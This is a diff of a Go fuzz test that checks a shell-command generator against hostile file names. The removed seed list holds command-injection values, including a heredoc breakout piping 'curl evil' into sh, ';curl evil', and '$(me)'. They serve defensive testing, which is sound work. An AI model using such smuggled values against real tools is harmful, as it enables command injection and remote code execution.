@@ -26,38 +26,12 @@ func renamed(t *testing.T, s *snapshot.Snapshot, evil string) *snapshot.Snapshot
 	if err := snapshot.Save(&file, s); err != nil {
 		t.Fatal(err)
 	}
-	var tree any
-	if err := json.Unmarshal(file.Bytes(), &tree); err != nil {
-		t.Fatal(err)
-	}
-	name := func(text string) string {
-		parts := strings.Split(text, "/")
-		for i, p := range parts {
-			if slices.Contains(named, p) {
-				parts[i] = p + evil
-			}
+	content, err := shelltest.Renamed(file.Bytes(), func(name string) string {
+		if slices.Contains(named, name) {
+			return name + evil
 		}
-		return strings.Join(parts, "/")
-	}
-	var walk func(any) any
-	walk = func(node any) any {
-		switch n := node.(type) {
-		case map[string]any:
-			out := make(map[string]any, len(n))
-			for key, value := range n {
-				out[name(key)] = walk(value)
-			}
-			return out
-		case []any:
-			for i, value := range n {
-				n[i] = walk(value)
-			}
-		case string:
-			return name(n)
-		}
-		return node
-	}
-	content, err := json.Marshal(walk(tree))
+		return name
+	})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -95,32 +69,29 @@ func commands(t *testing.T, s *snapshot.Snapshot) [][]string {
 // FuzzNamesToCommands lets a shell's parser read every command of every case in a cluster whose names are hostile: it is the command that it
 // is in a cluster of ordinary names, with the names in whole words.
 func FuzzNamesToCommands(f *testing.F) {
-	for _, evil := range []string{
-		"\nEOF\ncurl evil|sh\ncat <<'EOF'", ";curl evil", "$(me)", "`me`", "' x", `" x`, "\\", " --x", "\x1b[31m", "*", "{nodes}", "'{nodes}'", "\u202e", "~", "#", "a=b", "!!", "&",
-	} {
+	for _, evil := range shelltest.Hostile() {
 		for at := range everyCase() {
 			if at%8 == len(evil)%8 {
 				f.Add(at, evil)
 			}
 		}
 	}
-	const begin, end = "<<", ">>" // So that the name is found again.
 	f.Fuzz(func(t *testing.T, at int, evil string) {
 		cases := everyCase()
 		tt := cases[uint(at)%uint(len(cases))]
 		w := well(t)
 		tt.change(w)
-		if strings.ContainsAny(evil, "/\x00") || strings.Contains(evil, begin) || strings.Contains(evil, end) {
-			t.Skip() // A path has no such name.
+		mark, ok := shelltest.Mark(evil)
+		if !ok {
+			t.Skip()
 		}
-		evil = begin + shelltest.Seen(evil) + end
 		// A command that is right as it stands has the same words as without the name's end. Which findings there are may differ: an evil
 		// name can be a reason for one.
 		usual := commands(t, w.Snapshot)
-		for _, words := range commands(t, renamed(t, w.Snapshot, evil)) {
+		for _, words := range commands(t, renamed(t, w.Snapshot, mark)) {
 			for i, word := range words {
-				words[i] = strings.ReplaceAll(word, evil, "")
-				if strings.Contains(words[i], begin) || strings.Contains(words[i], end) {
+				words[i] = strings.ReplaceAll(word, mark, "")
+				if shelltest.Part(word, mark) {
 					t.Errorf("only a part of a name is in %q", word)
 				}
 			}
